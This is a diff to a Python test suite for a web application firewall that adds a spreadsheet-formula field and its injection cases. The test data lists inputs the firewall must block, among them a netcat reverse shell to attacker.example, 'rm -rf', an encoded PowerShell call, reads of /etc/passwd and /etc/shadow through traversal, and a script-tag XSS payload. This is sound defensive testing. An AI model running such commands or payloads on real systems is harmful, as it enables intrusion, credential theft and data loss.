@@ -26,6 +26,8 @@ from tests.waf.test_filter_fields import (
     FORMULA_INJECTIONS,
     FORMULAS,
     INJECTIONS,
+    SHEET_FORMULA_INJECTIONS,
+    SHEET_FORMULAS,
 )
 from tests.waf.test_render import OPTS
 
@@ -91,7 +93,10 @@ def test_a_declared_body_type_is_read_field_by_field(tier: Tier, profile: str) -
 
 # Declared on the d-<profile> sites (factory.SITE_RULES, SITE_FORMULA): (path, JSON key, values, injections).
 JSON_FIELDS = {"boolean-expression": ("/rules/save", "expr", BOOLEAN, BOOLEAN_INJECTIONS),
-               "formula": ("/calc/evaluate", "formula", FORMULAS, FORMULA_INJECTIONS)}
+               "formula": ("/calc/evaluate", "formula", FORMULAS, FORMULA_INJECTIONS),
+               "sheet-formula": ("/sheet/api/cell", "formula", SHEET_FORMULAS, SHEET_FORMULA_INJECTIONS)}
+# The paranoia level from which a language's declaration changes what is refused (1: every blocking profile).
+LOAD_BEARING_FROM = {"sheet-formula": 2}
 # Values of the grammar, so the SQL rules leave them, that other rules refuse on the declaring site: a boolean
 # expression's '&&' and '|' are the shell's too, and a formula's division is a path's slash.
 # ("A && id" is an expression of two conditions, and no profile refuses it in any parameter, declared or not.)
@@ -100,6 +105,7 @@ STILL_REFUSED = {
                            "(A|B) | nc -e sh attacker.example 4444", "A && ping -n 3 attacker.example",
                            "A && rm -rf tmp", "A && powershell -enc abc"],
     "formula": ["cat /etc/passwd", "x + etc/shadow"],
+    "sheet-formula": ['=A1&" "&"/etc/passwd"', '="<script>alert(1)</script>"', '=A1&"../../../../etc/shadow"'],
 }
 
 
@@ -119,7 +125,10 @@ def test_declared_boolean_and_formula_fields(tier: Tier, profile: str, language:
     served = [v for v in refused_plain if status(host, v) != 403]
     assert len(refused_plain) >= 10 and not served, f"{profile}: injections served in the declared field: {served}"
     plain = [v for v in values if status(plain_host, v) != 200]
-    assert plain, f"{profile}: every {language} value passes without the declaration; the test shows nothing"
+    # A sheet's formulas pass PL1 undeclared (942190's copy reads a sheet reference as such since stop 35); the
+    # heuristics that refuse them are PL2's and PL3's.
+    if factory.load_profile(profile).paranoia >= LOAD_BEARING_FROM.get(language, 1):
+        assert plain, f"{profile}: every {language} value passes without the declaration; the test shows nothing"
     assert all(filter_fields.matches(language, c) for c in STILL_REFUSED[language])
     served = [c for c in STILL_REFUSED[language] if status(host, c) != 403]
     assert not served, f"{profile}: commands or paths in a declared {language} field served: {served}"
